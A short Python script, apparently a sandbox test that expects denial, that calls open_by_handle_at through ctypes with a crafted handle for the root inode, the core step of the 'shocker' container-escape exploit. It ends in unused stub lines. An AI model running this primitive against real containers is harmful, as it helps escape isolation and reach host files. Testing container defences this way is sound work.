"""open_by_handle_at reaches files by number, past every path (the shocker exploit)."""
# tries: function
# ends: forbidden

import ctypes
import struct

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, 2), 16)
root = libc.open(b"/", 0)
found = libc.open_by_handle_at(root, handle, 0)
print(found, ctypes.get_errno())


def shares(*args): ...


label = first_over = shares
